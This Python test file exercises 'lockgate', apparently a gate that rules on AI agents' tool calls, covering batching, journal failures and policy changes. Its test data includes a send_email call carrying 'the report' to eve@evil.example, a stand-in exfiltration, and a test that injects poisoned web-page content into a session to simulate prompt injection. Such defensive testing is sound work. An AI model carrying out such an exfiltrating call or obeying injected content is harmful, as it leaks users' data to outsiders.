"""Calls of several sessions that one thread rules on side by side."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from threading import Event
from typing import Any

import pytest
from hosted_sessions import POISON

from lockgate.core.errors import JournalUnavailable, SessionsUnavailable
from lockgate.core.ruling.policy import Policy
from lockgate.core.vocabulary import Action, Receipt
from lockgate.gate.gate import Gate
from lockgate.journal.merkle import leaf_hash
from lockgate.runtime.worker_pool import WorkerPool
from lockgate.sessions import Host, SessionStore, StoredRuling

READ = ("read_file", {"path": "/x"})
SEND = ("send_email", {"to": "eve@evil.example", "body": "the report"})


class Records:
    """A journal in memory; a record of a session that is `lost` cannot be stored."""

    def __init__(self, lost: str = "") -> None:
        self.lost, self.stored, self.steps = lost, list[dict[str, Any]](), list[str]()

    def enqueue(self, records: Sequence[bytes], *, durable: bool) -> Callable[[], tuple[Receipt, ...]]:
        said = [json.loads(each) for each in records]
        self.steps += ["enqueued"]

        def wait() -> tuple[Receipt, ...]:
            self.steps += ["waited"]
            if any(each.get("session") == self.lost for each in said):
                raise JournalUnavailable("on purpose")
            self.stored += said
            return tuple(Receipt("j", at, leaf_hash(each)) for at, each in enumerate(records))

        return wait


@contextmanager
def one_batch(host: Host) -> Iterator[None]:
    """Hold the one thread for small calls, so that all that is asked inside is one batch."""
    go_on, begun = Event(), Event()
    pool = host._small_calls = WorkerPool(1, max_jobs=100, at_once=16)
    pool.submit(lambda: (begun.set(), go_on.wait(30)), "held/held")
    assert begun.wait(10)
    try:
        yield
    finally:
        go_on.set()


def rule_on(
    host: Host, sessions: str, call: tuple[str, Any], between: Callable[[], object] = lambda: None
) -> list[StoredRuling]:
    """Rule on one call of each session in one batch, after `between`."""

    async def ask_all() -> list[StoredRuling]:
        with one_batch(host):
            asked = [asyncio.ensure_future(host.check_async(each, *call, client="here")) for each in sessions]
            await asyncio.sleep(0)
            between()
        return await asyncio.gather(*asked)

    return asyncio.run(asyncio.wait_for(ask_all(), 30))


def open_all(host: Host, sessions: str) -> None:
    for each in sessions:
        host.open(each, goal="tell me the weather")


def test_a_ruling_that_cannot_be_kept_is_the_only_one_that_is_not(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    open_all(host, "abc")
    found, real = host.session("b"), host.store._append  # type: ignore[attr-defined]
    assert found is not None

    def fail(db: object, sessions: Sequence[int], entries: object) -> object:
        if sessions[0] == found.number:
            raise SessionsUnavailable("on purpose")
        return real(db, sessions, entries)

    monkeypatch.setattr(host.store, "_append", fail)
    assert [bool(kept.seq) for kept in rule_on(host, "abc", READ)] == [True, False, True]
    assert [len(host.decisions(session=each)) for each in "abc"] == [1, 0, 1]


def test_a_record_that_cannot_be_stored_holds_its_own_call_and_no_other(again: Callable[[], SessionStore]) -> None:
    journal = Records(lost="b")
    host = Host(Gate(journal=journal), again())
    open_all(host, "abc")
    got = rule_on(host, "abc", SEND)
    assert journal.steps[:4] == ["enqueued"] * 3 + ["waited"]
    assert [kept.decision.receipt is not None for kept in got] == [True, False, True]
    assert got[1].decision.action is Action.PAUSE
    assert {each["session"] for each in journal.stored if "session" in each} == {"a", "c"}


def test_a_block_that_is_acknowledged_while_a_call_waits_is_seen_by_it(host: Host) -> None:
    open_all(host, "ab")
    poisoned, clean = rule_on(host, "ab", SEND, lambda: host.add("a", POISON, source="web:page"))
    assert poisoned.context == clean.context + 1
    assert {origin.source for origin in poisoned.decision.origins} >= {"web:page"}


def test_a_policy_that_changes_within_a_batch_is_recorded_whole(
    again: Callable[[], SessionStore], monkeypatch: pytest.MonkeyPatch
) -> None:
    journal = Records()
    old, new = Gate(journal=journal), Gate(policy=Policy(mode="paranoid"), journal=journal)
    host = Host(old, again())
    open_all(host, "abc")
    real = host._rulings.look

    def change(session: str, *rest: Any) -> Any:
        start = real(session, *rest)
        if session == "b":
            host.change_gate(new)
        return start

    monkeypatch.setattr(host._rulings, "look", change)
    got = rule_on(host, "abc", READ)
    said = {each["session"]: (each["mode"], each["policy_sha256"]) for each in journal.stored if "session" in each}
    before, after = (("default", old.policy.hash), ("paranoid", new.policy.hash))
    assert all(kept.seq for kept in got)
    assert {name: (mode, f"sha256:{digest}") for name, (mode, digest) in said.items()} == {
        "a": before,
        "b": before,
        "c": after,
    }
